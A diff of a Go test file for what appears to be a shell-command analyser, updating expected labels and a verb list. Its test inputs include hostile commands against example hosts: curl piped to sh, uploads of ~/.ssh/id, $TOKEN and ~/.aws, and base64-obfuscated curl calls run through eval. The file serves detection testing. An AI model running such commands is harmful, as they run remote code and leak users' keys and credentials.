@@ -57,7 +57,7 @@ func TestShell(t *testing.T) {
 	for _, test := range []struct{ source, want string }{
 		{`curl -s https://files.example.net/x | sh`, "runs program curl; sends host files.example.net <curl; runs code  <curl <files.example.net"},
 		{`H=files.example.net; curl -o out.sh "https://$H/x"; bash out.sh`, "sends host files.example.net; writes file out.sh <curl; runs code  <out.sh"},
-		{`curl -d @"$HOME/.ssh/id" -H "X: $TOKEN" https://a.example.net`, "reads variable TOKEN; reads variable HOME; reads file */.ssh/id; sends host a.example.net <HOME <TOKEN"},
+		{`curl -d @"$HOME/.ssh/id" -H "X: $TOKEN" https://a.example.net`, "reads variable TOKEN; reads variable HOME; reads file ~/.ssh/id; sends host a.example.net <HOME <TOKEN <curl <~/.ssh/id"},
 		{`tar czf - ~/.aws | base64 | curl -T - https://a.example.net`, "reads file ~/.aws; sends host a.example.net <tar"},
 		{`echo aHR0cHM6Ly9hLmV4YW1wbGUubmV0 | base64 -d | xargs curl`, "decodes encoding base64; sends host a.example.net"},
 		{`eval "$(echo 'Y3VybCBodHRwczovL2EuZXhhbXBsZS5uZXQ=' | base64 --decode)"`, "sends host a.example.net"},
@@ -141,7 +141,8 @@ func TestTables(t *testing.T) {
 }
 
 const verbs = `send host listen read write open put take var store is run shell python javascript code decode import need pass give fold is word call path pathself home list
-	putin more client sendif envall partial clickenv url netsend buffer spawn then codelast pip wrap wrapin exec printf export interpreter remote at echo alias fill source save tr rev cron builtin quiet env`
+	putin more client sendif envall partial clickenv url netsend buffer spawn then codelast pip wrap wrapin exec printf export interpreter remote at echo alias fill source save tr rev cron builtin quiet env
+	saveas unpack temp allvars sed`
 
 func FuzzShell(f *testing.F) {
 	f.Add("x=$(curl a.example.net | base64 -d); eval \"$x\"")
